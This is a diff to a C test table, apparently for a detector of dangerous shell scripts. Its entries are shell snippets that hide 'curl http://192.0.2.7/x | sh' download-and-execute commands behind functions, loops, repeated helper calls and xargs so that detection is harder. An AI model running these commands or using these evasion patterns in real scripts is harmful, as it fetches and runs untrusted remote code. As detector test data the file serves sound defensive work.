@@ -92,8 +92,8 @@ static const struct {
      "w() { echo \"$1 http://192.0.2.7/x | sh\" > /tmp/a; }\nw curl; w true; w curl; w true; w curl; sh /tmp/a\n"},
     {"function called once more in a function", "a() { b; }\nb() { $C http://192.0.2.7/x|sh; }\na;b;C=curl;a\n"},
     {"helper called with other words thirty times",
-     "run() { \"$@\"; }\nfor i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29; "
-     "do run true $i; done\nrun curl http://192.0.2.7/x | sh\n"},
+     "get() { curl \"$1\" | $2; }\nfor i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28; "
+     "do get http://192.0.2.7/$i cat; done\nget http://192.0.2.7/x sh\n"},
     {"function never called", "main() { curl http://192.0.2.7/x | sh; }\n"},
     {"loop over words", "for h in 192.0.2.6 192.0.2.7; do curl http://$h/x | sh; done\n"},
     {"xargs", "echo http://192.0.2.7/x | xargs curl | sh\n"},
